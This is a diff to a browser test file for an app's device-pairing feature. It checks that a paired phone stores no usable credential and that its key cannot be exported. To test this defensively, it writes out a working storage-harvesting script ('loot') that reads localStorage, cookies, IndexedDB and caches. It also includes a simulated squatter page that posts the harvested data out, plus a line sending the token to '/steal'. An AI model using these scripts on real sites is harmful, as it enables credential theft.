@@ -3,8 +3,10 @@
 // in words), the Devices screen (the list with this device marked, a new code with its QR
 // code, the activity), removing a device closing its live session on another phone, which
 // then says it was removed and can be paired again, a watch-only device that is not offered
-// sending or answering, and a page and service worker that keep only the hub's own bytes when
-// someone else answers on the hub's port.
+// sending or answering, a browser paired by code that keeps no credential (a non-extractable
+// key; nothing in its storage works against the hub, also when read by someone else's page on
+// the origin), and a page and service worker that keep only the hub's own bytes when someone
+// else answers on the hub's port.
 
 import { describe, it, before, after } from 'node:test';
 import assert from 'node:assert/strict';
@@ -15,9 +17,61 @@ import { looksRight, phonePage } from './look.mjs';
 const STATUS = (code) => new RegExp(`^Failed to load resource: the server responded with a status of ${code} `);
 const CUT = [/^Failed to load resource: (net::ERR_\w+|the server responded with a status of \d{3} )/, /^WebSocket connection to '.*' failed: /];
 
+
+/**
+ * Everything a script on the app's origin can read of its storage (run in the page: the app's,
+ * or anyone else's served there): every string in localStorage, sessionStorage, cookies,
+ * IndexedDB (values and keys, JSON looked into) and Cache Storage's URLs; the cached bodies;
+ * and, for each CryptoKey found, what `exportKey` did with it.
+ */
+async function loot() {
+  const strings = new Set();
+  const keys = [];
+  const walk = (v, depth) => {
+    if (v === null || v === undefined || depth > 8) return;
+    if (typeof v === 'string') {
+      strings.add(v);
+      try { walk(JSON.parse(v), depth + 1); } catch { /* not JSON */ }
+      return;
+    }
+    if (typeof v !== 'object') return;
+    if (v instanceof CryptoKey) { keys.push(v); return; }
+    if (v instanceof ArrayBuffer || ArrayBuffer.isView(v)) {
+      strings.add(btoa(String.fromCharCode(...new Uint8Array(v.buffer || v))));
+      return;
+    }
+    for (const [k, x] of Object.entries(v)) { strings.add(k); walk(x, depth + 1); }
+  };
+  for (const st of [localStorage, sessionStorage]) {
+    for (let i = 0; i < st.length; i++) { strings.add(st.key(i)); walk(st.getItem(st.key(i)), 0); }
+  }
+  for (const part of document.cookie.split(/[;=]/)) walk(part.trim(), 0);
+  const req = (r) => new Promise((ok, fail) => { r.onsuccess = () => ok(r.result); r.onerror = () => fail(r.error); });
+  for (const { name } of await indexedDB.databases()) {
+    const db = await req(indexedDB.open(name));
+    for (const store of db.objectStoreNames) {
+      const os = db.transaction(store).objectStore(store);
+      walk(await req(os.getAll()), 0);
+      walk(await req(os.getAllKeys()), 0);
+    }
+    db.close();
+  }
+  const cached = [];
+  for (const name of await caches.keys()) {
+    const c = await caches.open(name);
+    for (const r of await c.keys()) { strings.add(r.url); cached.push(await (await c.match(r)).text()); }
+  }
+  const exported = [];
+  for (const k of keys) {
+    try { await crypto.subtle.exportKey('jwk', k); exported.push('exported'); } catch (e) { exported.push(e.name); }
+  }
+  return { strings: [...strings], cached, keys: keys.length, exported };
+}
+
 describe('devices: pairing by code, the Devices screen, revoking, watch-only', () => {
   let stack; let browser; let ed; let sid;
   let admin; // a phone holding the machine's token (as a local tool's link gives it)
+  let keyed; // a phone paired by code (it holds a key), kept for the squatter's visit
 
   before(async () => {
     browser = await launchBrowser();
@@ -64,6 +118,25 @@ describe('devices: pairing by code, the Devices screen, revoking, watch-only', (
     return page;
   }
 
+  /**
+   * Tries every string of `strings` that could be a credential (16 characters or more, no
+   * spaces: every credential the hub issues is 43 characters of base64url) as a Bearer token:
+   * the statuses that were not a refusal. 429 is a refusal too: the hub checks a token before
+   * the address's limit, so a working one is never answered 429.
+   */
+  async function usable(strings) {
+    const tried = [...new Set(strings)].filter((x) => typeof x === 'string' && /^\S{16,}$/.test(x));
+    const worked = [];
+    for (const t of tried) {
+      const r = await stack.fetch('/api/instances', { headers: { Authorization: `Bearer ${t}` } });
+      if (r.status !== 401 && r.status !== 429) worked.push(`${t} → ${r.status}`);
+    }
+    return { tried: tried.length, worked };
+  }
+
+  /** `path` fetched by the app itself in `page` (its own credential). */
+  const getJson = (page, path) => page.evaluate(async (p) => (await import('/js/api.js')).getJson(p), path);
+
   const stored = (page) => page.evaluate(() => ({
     token: localStorage.getItem('zcode-acp.token'), device: JSON.parse(localStorage.getItem('zcode-acp.device') || 'null'),
   }));
@@ -78,7 +151,8 @@ describe('devices: pairing by code, the Devices screen, revoking, watch-only', (
     const phone = await pairedBy(url);
     assert.equal(new URL(phone.url()).hash, '', 'the code left the address bar');
     const mine = await stored(phone);
-    assert.ok(mine.token && mine.token !== stack.token, 'the phone keeps a credential of its own, not the machine token');
+    assert.equal(mine.token, null, 'the phone keeps no token: it holds a key');
+    assert.equal(mine.device.key, true);
     assert.equal(mine.device.scope, 'full');
     // The hub knows it by that credential.
     const listed = await stack.api('/api/devices');
@@ -145,7 +219,7 @@ describe('devices: pairing by code, the Devices screen, revoking, watch-only', (
     await phone.locator('.pair button[type="submit"]').click();
     await phone.locator('#instances').waitFor();
     const again = await stored(phone);
-    assert.ok(again.token && again.device.id !== me.id && !again.device.removed);
+    assert.ok(again.device.key && again.device.id !== me.id && !again.device.removed, JSON.stringify(again));
     await phone.context().close();
   });
 
@@ -195,6 +269,54 @@ describe('devices: pairing by code, the Devices screen, revoking, watch-only', (
     await page.context().close();
   });
 
+  it('a paired browser keeps no credential: nothing in its storage works against the hub, its key does not export, and it still works after a reload', async () => {
+    // A browser paired before keys (its device token in localStorage) swaps it for a key at start.
+    const code = (await stack.api('/api/pairing', { method: 'POST' })).code;
+    const old = await (await stack.fetch('/api/pair', { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify({ code, name: 'old phone' }) })).json();
+    assert.ok(old.token, JSON.stringify(old));
+    const before = await phonePage(browser, 'light');
+    await before.context().addInitScript(([id, token]) => {
+      if (localStorage.getItem('zcode-acp.device')) return;
+      localStorage.setItem('zcode-acp.token', token);
+      localStorage.setItem('zcode-acp.device', JSON.stringify({ id, name: 'old phone', scope: 'full' }));
+    }, [old.deviceId, old.token]);
+    await before.goto(`${stack.base}/`);
+    await before.locator('#instances').waitFor();
+    await until('the old token to be swapped for a key', async () => (await stored(before)).device.key);
+    assert.equal((await stored(before)).token, null, 'the old token is deleted');
+    assert.equal((await stack.fetch('/api/instances', { headers: { Authorization: `Bearer ${old.token}` } })).status, 401, 'and the hub takes it no more');
+    await before.reload();
+    await before.locator('#instances').waitFor();
+    assert.equal((await getJson(before, '/api/devices')).devices.find((d) => d.current).id, old.deviceId, 'still that device, by its key');
+    await before.context().close();
+
+    // Paired by code, it holds a key.
+    keyed = await pairedBy(await toolCode('full'));
+    const presented = new Set();
+    keyed.context().on('request', (r) => {
+      const a = r.headers().authorization;
+      if (a) presented.add(a.replace(/^Bearer /, ''));
+    });
+    // After a reload it lists sessions and opens one through the hub's relay (a new access token
+    // signed for, held in the page's memory only).
+    await keyed.reload();
+    await keyed.locator('#instances').waitFor();
+    await keyed.goto(`${stack.base}/s/${encodeURIComponent(ed.id)}/${encodeURIComponent(sid)}?cwd=${encodeURIComponent(stack.project)}`);
+    await keyed.locator('#conn[data-state="open"]').waitFor();
+    await keyed.locator('#transcript .msg', { hasText: 'hello from the editor' }).first().waitFor();
+    assert.ok(presented.size > 0, 'the page presented a credential');
+
+    const got = await keyed.evaluate(loot);
+    const { tried, worked } = await usable(got.strings);
+    assert.ok(tried >= 2, `the device and its key's record were found: ${JSON.stringify(got.strings)}`);
+    assert.deepEqual(worked, [], 'no string in the storage is a credential the hub takes');
+    assert.equal(got.keys, 1, 'the device key is kept (IndexedDB)');
+    assert.deepEqual(got.exported, ['InvalidAccessError'], 'and cannot be exported');
+    for (const t of presented) {
+      assert.ok(!got.cached.some((body) => body.includes(t)), 'no credential the page used is in Cache Storage');
+    }
+  });
+
   it('the service worker keeps and serves only the hub\'s own bytes when someone else answers on its port', async () => {
     const page = await phonePage(browser, 'light', stack.token);
     await page.goto(`${stack.base}/`);
@@ -213,7 +335,20 @@ describe('devices: pairing by code, the Devices screen, revoking, watch-only', (
     await ed.close();
     await stack.stopHub();
     stack.killSpawnedHub();
+    let looted = null;
     const squatter = http.createServer((req, res) => {
+      // Its page, opened on the origin by the phone paired by code, reads that origin's storage.
+      if (req.url === '/loot') {
+        let body = '';
+        req.on('data', (c) => { body += c; });
+        req.on('end', () => { looted = JSON.parse(body); res.writeHead(204).end(); });
+        return;
+      }
+      if (req.url === '/api/steal') {
+        res.writeHead(200, { 'Content-Type': 'text/html' });
+        res.end(`<!doctype html><title>squatter</title><script>(${loot})().then((r) => fetch('/loot', { method: 'POST', body: JSON.stringify(r) }))</script>`);
+        return;
+      }
       res.writeHead(200, { 'Content-Type': 'text/html' });
       res.end('<!doctype html><title>squatter</title><p id="squatter">SQUATTER</p><script>fetch("/steal?t="+localStorage.getItem("zcode-acp.token"))</script>');
     });
@@ -223,22 +358,37 @@ describe('devices: pairing by code, the Devices screen, revoking, watch-only', (
       await page.reload();
       await page.locator('#conn').waitFor();
       assert.equal(await page.locator('#squatter').count(), 0, 'the squatter\'s page was not served');
-      // An asset missing from the cache is fetched, found not to be the hub's, refused and not kept.
+      // An asset missing from the cache is fetched, found not to be the hub's, refused and not kept
+      // (its URL is this build's, which the browser's HTTP cache holds for good: bypassed here).
       const got = await page.evaluate(async () => {
         const keys = await caches.keys();
         const c = await caches.open(keys.find((k) => k.startsWith('zcode-acp-shell-')));
-        await c.delete('/js/dom.js');
-        const resp = await fetch('/js/dom.js');
-        return { status: resp.status, text: await resp.text(), kept: Boolean(await c.match('/js/dom.js')) };
+        const url = new URL(document.querySelector('link[rel="modulepreload"][href$="/js/dom.js"]').href).pathname;
+        await c.delete(url);
+        const resp = await fetch(url, { cache: 'reload' });
+        return { status: resp.status, text: await resp.text(), kept: Boolean(await c.match(url)) };
       });
       assert.equal(got.status, 503, `the squatter's answer is refused: ${JSON.stringify(got)}`);
       assert.match(got.text, /not your hub's/);
       assert.equal(got.kept, false, 'and never cached');
+      // The phone paired by code opens the squatter's page on the origin (a path the worker
+      // leaves to the network): it reads all the storage, and the key does not export.
+      await keyed.goto(`${stack.base}/api/steal`);
+      await until('the squatter\'s page to read the storage', () => looted);
+      assert.equal(looted.keys, 1);
+      assert.deepEqual(looted.exported, ['InvalidAccessError']);
     } finally {
-      await new Promise((ok) => squatter.close(ok));
+      // Every connection ended with it (a page's kept-alive one would hold `close` open).
+      const closed = new Promise((ok) => squatter.close(ok));
       squatter.closeAllConnections?.();
+      await closed;
     }
     await stack.startHub();
+    // Nothing it read works against the hub once the hub is back.
+    const { tried, worked } = await usable(looted.strings);
+    assert.ok(tried >= 2, JSON.stringify(looted.strings));
+    assert.deepEqual(worked, [], 'nothing the squatter read is a credential');
+    await keyed.context().close();
     await page.context().close();
   });
 });
